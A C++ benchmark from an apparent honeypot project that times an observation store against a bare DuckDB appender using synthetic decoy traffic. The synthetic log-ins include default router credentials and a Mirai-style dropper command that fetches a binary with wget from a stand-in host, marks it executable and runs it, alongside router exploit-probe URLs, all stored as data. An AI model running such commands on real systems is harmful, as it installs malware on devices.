// observations/s through ObservationStore::apply (decoded, profiled, filtered, sealed, durable with its cursor) beside
// a bare DuckDB appender that writes the same columns of ready-made rows, in turns of one group each.
#include <sys/resource.h>

#include <algorithm>
#include <bit>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <deque>
#include <filesystem>
#include <random>

#include <fmt/core.h>

#include "base/text.hpp"
#include "know/observation_store.hpp"
#include "know/observations/observations_schema.hpp"
#include "model/batch.hpp"

using namespace noroshi;
namespace duck = know::duck;
namespace observations = know::observations;
using model::Field;
using model::Kind;

namespace {

constexpr auto kGroupRows = std::size_t{50'000};
constexpr auto kBatchRows = std::size_t{500};
constexpr auto kDifferentGroups = std::size_t{8};

[[noreturn]] void give_up(Error const &error) {
  fmt::print(stderr, "observations_bench: {}\n", error.sentence);
  std::exit(3);
}
void must(Result<void> const &result) {
  if (!result) give_up(result.error());
}
template <class T>
auto must(Result<T> result) -> T {
  if (!result) give_up(result.error());
  return *std::move(result);
}

/// A group of the kinds that decoys see: three of five visits are log-ins with commands, the others web requests.
class Traffic {
public:
  Traffic(std::uint64_t seed, std::uint32_t sources) : random_(seed), sources_(sources) {}

  void fill(std::vector<model::Observation> &group) {
    group.clear();
    while (group.size() < kGroupRows) (draw(5) < 3 ? &Traffic::log_in : &Traffic::browse)(*this, group);
    group.resize(kGroupRows);
  }

private:
  auto draw(std::uint64_t below) -> std::uint64_t { return random_() % below; }
  auto text(std::string made) -> std::string_view { return texts_.emplace_back(std::move(made)); }

  void begin(char const *service, std::uint16_t port) {
    time_ += Duration{static_cast<std::int64_t>(draw(2'000))};
    next_ = {};
    next_.time = time_;
    next_.visit = model::Uuid::v7(time_, random_(), random_());
    auto const number = static_cast<std::uint32_t>(draw(sources_)) * 2'654'435'761U;
    next_.source = {model::IpAddress::v4(number), static_cast<std::uint16_t>(1'024 + draw(60'000))};
    next_.destination = {model::IpAddress::v4(0xc000'0200U + static_cast<std::uint32_t>(draw(64))), port};
    next_.service = service;
  }
  auto next(Kind kind) -> model::Observation & {
    auto fresh = model::Observation{};
    fresh.time = time_;
    fresh.visit = next_.visit;
    fresh.sequence = next_.sequence++;
    fresh.kind = kind;
    fresh.source = next_.source;
    fresh.destination = next_.destination;
    fresh.service = next_.service;
    current_ = fresh;
    return current_;
  }
  void close(std::vector<model::Observation> &to) {
    to.push_back(next(Kind::closed)
                     .set(Field::bytes_in, static_cast<std::int64_t>(draw(4'000)))
                     .set(Field::bytes_out, static_cast<std::int64_t>(draw(20'000)))
                     .set(Field::duration_ms, static_cast<std::int64_t>(draw(60'000)))
                     .set(Field::reason, "visitor"));
  }

  static void log_in(Traffic &self, std::vector<model::Observation> &to) {
    static constexpr auto kUsers = std::array<std::string_view, 6>{"root", "admin", "support", "user", "guest", "ubnt"};
    self.begin("telnet", 23);
    to.push_back(self.next(Kind::opened).set(Field::persona, "busybox-router").set(Field::protocol, "telnet"));
    for (auto i = std::uint64_t{0}; i <= self.draw(3); ++i)
      to.push_back(self.next(Kind::login)
                       .set(Field::username, kUsers[self.draw(6)])
                       .set(Field::password, self.text(fmt::format("{}{}", kUsers[self.draw(6)], self.draw(5'000))))
                       .set(Field::accepted, static_cast<std::int64_t>(self.draw(2))));
    for (auto const command : {"enable", "system", "shell"})
      to.push_back(self.next(Kind::command).set(Field::command, std::string_view{command}));
    auto const url = self.text(fmt::format("http://198.51.100.{}/bins/mirai.{}", self.draw(200), self.draw(12)));
    to.push_back(self.next(Kind::command)
                     .set(Field::command,
                          self.text(fmt::format("cd /tmp || cd /var/run; wget {} -O - > x; chmod 777 x; ./x", url))));
    to.push_back(self.next(Kind::download).set(Field::url, url));
    self.close(to);
  }
  static void browse(Traffic &self, std::vector<model::Observation> &to) {
    static constexpr auto kAgents =
        std::array<std::string_view, 4>{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36",
                                        "Go-http-client/1.1", "Mozilla/5.0 zgrab/0.x", "curl/7.88.1"};
    self.begin("http", 80);
    to.push_back(self.next(Kind::opened).set(Field::persona, "nginx").set(Field::protocol, "http"));
    for (auto i = std::uint64_t{0}; i <= self.draw(2); ++i)
      to.push_back(self.next(Kind::request)
                       .set(Field::method, "GET")
                       .set(Field::path, self.text(fmt::format("/cgi-bin/luci/;stok={}/setup.php?id={}", self.draw(500),
                                                               self.draw(2'000))))
                       .set(Field::host, self.text(fmt::format("203.0.113.{}:80", self.draw(64))))
                       .set(Field::user_agent, kAgents[self.draw(4)])
                       .set(Field::status, std::int64_t{404}));
    self.close(to);
  }

  std::mt19937_64 random_;
  std::uint32_t sources_;
  Time time_ = Time{Day{std::chrono::year{2026} / 11 / 21}} + std::chrono::hours{9};
  model::Observation next_, current_;
  std::deque<std::string> texts_;
};

struct Group {
  std::vector<model::Observation> rows;
  std::vector<std::string> frames;
  std::vector<model::ReceivedBatch> batches;
};

auto make_group(Traffic &traffic) -> Group {
  auto group = Group{};
  traffic.fill(group.rows);
  auto const received = Time{Day{std::chrono::year{2026} / 11 / 21}} + std::chrono::hours{10};
  for (auto at = std::size_t{0}; at < kGroupRows; at += kBatchRows) {
    auto &frames = group.frames.emplace_back();
    for (auto i = at; i < at + kBatchRows; ++i) model::append_frame(frames, group.rows[i]);
  }
  for (auto i = std::size_t{0}; i < group.frames.size(); ++i)
    group.batches.push_back({{static_cast<std::int64_t>(i % 20 + 1)}, received, group.frames[i]});
  return group;
}

/// DuckDB as its documentation shows it: default settings, chunks of ready-made rows, one transaction a group.
class BareAppender {
public:
  explicit BareAppender(std::string const &path) {
    if (duckdb_open(path.c_str(), &database_) != DuckDBSuccess)
      give_up(fail(ErrorCode::internal, "the peer does not open"));
    connection_ = must(duck::Connection::open(database_));
    must(connection_.run(observations::table_sql("peer")));
    auto types = std::vector<duckdb_logical_type>{};
    for (auto const &column : observations::columns()) types.push_back(duckdb_create_logical_type(column.type));
    chunk_ = duck::Chunk{duckdb_create_data_chunk(types.data(), types.size())};
    for (auto &type : types) duckdb_destroy_logical_type(&type);
  }
  BareAppender(BareAppender const &) = delete;
  auto operator=(BareAppender const &) -> BareAppender & = delete;
  ~BareAppender() {
    chunk_ = {};
    connection_ = {};
    duckdb_close(&database_);
  }

  void write(Group const &group) {
    must(connection_.run("BEGIN TRANSACTION"));
    auto appender = must(duck::Appender::open(connection_, "peer"));
    auto const step = duckdb_vector_size();
    for (auto at = std::size_t{0}; at < group.rows.size(); at += step) {
      duckdb_data_chunk_reset(chunk_.get());
      auto const rows = std::min<std::size_t>(step, group.rows.size() - at);
      for (auto i = std::size_t{0}; i < rows; ++i)
        fill_fixed(i, group.rows[at + i], group.batches[(at + i) / kBatchRows]);
      for (auto const &field : model::fields()) fill_field(field, group, at, rows);
      duckdb_data_chunk_set_size(chunk_.get(), rows);
      must(appender.append(chunk_.get()));
    }
    must(appender.close());
    must(connection_.run("COMMIT"));
  }
  auto connection() -> duck::Connection & { return connection_; }

private:
  auto vector(std::size_t column) -> duckdb_vector { return duckdb_data_chunk_get_vector(chunk_.get(), column); }
  template <class Number>
  void put(std::size_t column, std::size_t row, Number number) {
    static_cast<Number *>(duckdb_vector_get_data(vector(column)))[row] = number;
  }
  void fill_fixed(std::size_t row, model::Observation const &from, model::ReceivedBatch const &batch) {
    put(0, row, std::int64_t{from.time.time_since_epoch().count()});
    put(1, row, std::int64_t{batch.received.time_since_epoch().count()});
    put(2, row, batch.sensor.number);
    put(3, row, observations::to_duck(from.visit));
    put(4, row, from.sequence);
    put(5, row, static_cast<std::uint8_t>(from.kind));
    put(6, row, static_cast<std::uint8_t>(from.transport));
    put(7, row, from.source.address.high());
    put(8, row, from.source.address.low());
    put(9, row, from.source.port);
    put(10, row, from.destination.address.high());
    put(11, row, from.destination.address.low());
    put(12, row, from.destination.port);
    duckdb_vector_assign_string_element_len(vector(13), row, from.service.data(), from.service.size());
    if (row == 0) duckdb_vector_ensure_validity_writable(vector(14));
    duckdb_validity_set_row_invalid(duckdb_vector_get_validity(vector(14)), row);
  }
  void fill_field(model::FieldInfo const &field, Group const &group, std::size_t at, std::size_t rows) {
    auto const column = observations::column_of(field.field);
    auto *const to = vector(column);
    duckdb_vector_ensure_validity_writable(to);
    auto *const validity = duckdb_vector_get_validity(to);
    for (auto i = std::size_t{0}; i < rows; ++i) {
      auto const &from = group.rows[at + i];
      if (!from.has(field.field)) {
        duckdb_validity_set_row_invalid(validity, i);
      } else if (field.type == model::FieldType::number) {
        put(column, i, from.number(field.field));
      } else if (field.type == model::FieldType::flag) {
        put(column, i, from.number(field.field) != 0);
      } else {
        auto const text = from.text(field.field);
        duckdb_vector_assign_string_element_len(to, i, text.data(), text.size());
      }
    }
  }

  duckdb_database database_ = nullptr;
  duck::Connection connection_;
  duck::Chunk chunk_;
};

/// Rows, and a number that depends on every value but the sealed ones, whatever their order.
struct Contents {
  std::uint64_t rows = 0, checksum = 0, secrets = 0;
  auto operator==(Contents const &) const -> bool = default;
};
auto contents(duck::Connection &connection, std::string const &table) -> Contents {
  auto list = std::string{};
  for (auto const &column : observations::columns())
    if (column.name != "password") list += fmt::format("{}\"{}\"", list.empty() ? "" : ", ", column.name);
  auto rows = must(connection.query(
      fmt::format("SELECT count(*)::UBIGINT, bit_xor(hash({})) , count(password)::UBIGINT FROM {}", list, table)));
  rows.next();
  return {rows.number<std::uint64_t>(0), rows.number<std::uint64_t>(1), rows.number<std::uint64_t>(2)};
}

struct Timing {
  double seconds = 0, cpu = 0;
  std::vector<double> groups;
};
auto cpu_seconds() -> double {
  auto usage = rusage{};
  ::getrusage(RUSAGE_SELF, &usage);
  return static_cast<double>(usage.ru_utime.tv_sec + usage.ru_stime.tv_sec) +
         static_cast<double>(usage.ru_utime.tv_usec + usage.ru_stime.tv_usec) * 1e-6;
}
template <class Work>
void timed(Timing &timing, Work work) {
  auto const cpu = cpu_seconds();
  auto const start = std::chrono::steady_clock::now();
  work();
  timing.groups.push_back(std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count());
  timing.seconds += timing.groups.back();
  timing.cpu += cpu_seconds() - cpu;
}
void print(std::string_view name, Timing timing, std::uint64_t rows) {
  std::ranges::sort(timing.groups);
  auto const at = [&](double part) {
    return timing.groups[static_cast<std::size_t>(part * static_cast<double>(timing.groups.size() - 1))] * 1e3;
  };
  fmt::print("  {:<22} {:>9.0f} rows/s   {:.2f} us CPU/row   group p50 {:.0f} ms, p95 {:.0f} ms, max {:.0f} ms\n", name,
             static_cast<double>(rows) / timing.seconds, timing.cpu / static_cast<double>(rows) * 1e6, at(0.5),
             at(0.95), at(1));
}

auto run(std::uint64_t rows, std::uint32_t sources, std::string const &folder, unsigned threads) -> bool {
  auto traffic = Traffic{sources, sources};
  auto groups = std::vector<Group>{};
  auto const count = std::max<std::size_t>(1, static_cast<std::size_t>(rows / kGroupRows));
  for (auto i = std::size_t{0}; i < std::min(kDifferentGroups, count); ++i) groups.push_back(make_group(traffic));
  auto options = know::ObservationStoreOptions{};
  options.directory = folder + "/ours";
  options.threads = threads;
  auto ours = Timing{};
  auto peer = Timing{};
  auto theirs = Contents{};
  {
    auto const store = must(know::open_observation_store(options));
    auto bare = BareAppender{folder + "/peer.duckdb"};
    for (auto i = std::size_t{0}; i < count; ++i) {
      auto const &group = groups[i % groups.size()];
      timed(ours, [&] { must(store->apply(group.batches, i + 1)); });
      timed(peer, [&] { bare.write(group); });
    }
    theirs = contents(bare.connection(), "peer");
  }
  auto database = duckdb_database{};
  if (duckdb_open((options.directory + "/observations.duckdb").c_str(), &database) != DuckDBSuccess)
    give_up(fail(ErrorCode::internal, "the store does not open again"));
  auto mine = Contents{};
  {
    auto connection = must(duck::Connection::open(database));
    mine = contents(connection, "obs_20261121");
  }
  duckdb_close(&database);
  fmt::print("{} observations of {} sources, groups of {}\n", count * kGroupRows, sources, kGroupRows);
  fmt::print("  same rows and checksum: {} ({} rows, {:016x})\n", mine == theirs ? "yes" : "NO", mine.rows,
             mine.checksum);
  print("ObservationStore", ours, count * kGroupRows);
  print("bare DuckDB appender", peer, count * kGroupRows);
  fmt::print("  ratio {:.2f}, by median group {:.2f}\n", peer.seconds / ours.seconds, [&] {
    auto const median = [](std::vector<double> &times) {
      std::ranges::nth_element(times, times.begin() + static_cast<std::ptrdiff_t>(times.size() / 2));
      return times[times.size() / 2];
    };
    return median(peer.groups) / median(ours.groups);
  }());
  return mine == theirs;
}

}  // namespace

auto main(int argc, char **argv) -> int {
  auto rows = std::uint64_t{2'000'000};
  auto threads = 1U;
  for (auto i = 1; i < argc; ++i) {
    auto const word = std::string_view{argv[i]};
    if (word == "--small") rows = 2 * kGroupRows;
    if (word == "--rows" && i + 1 < argc) rows = std::strtoull(argv[++i], nullptr, 10);
    if (word == "--threads" && i + 1 < argc) threads = static_cast<unsigned>(std::strtoul(argv[++i], nullptr, 10));
  }
  auto pattern = (std::filesystem::temp_directory_path() / "noroshi-bench-XXXXXX").string();
  if (::mkdtemp(pattern.data()) == nullptr) return 3;
  auto same = true;
  for (auto const sources : {1'000U, 100'000U}) {
    auto const folder = fmt::format("{}/{}", pattern, sources);
    std::filesystem::create_directories(folder);
    same = run(rows, sources, folder, threads) && same;
    std::filesystem::remove_all(folder);
  }
  std::filesystem::remove_all(pattern);
  return same ? 0 : 1;
}
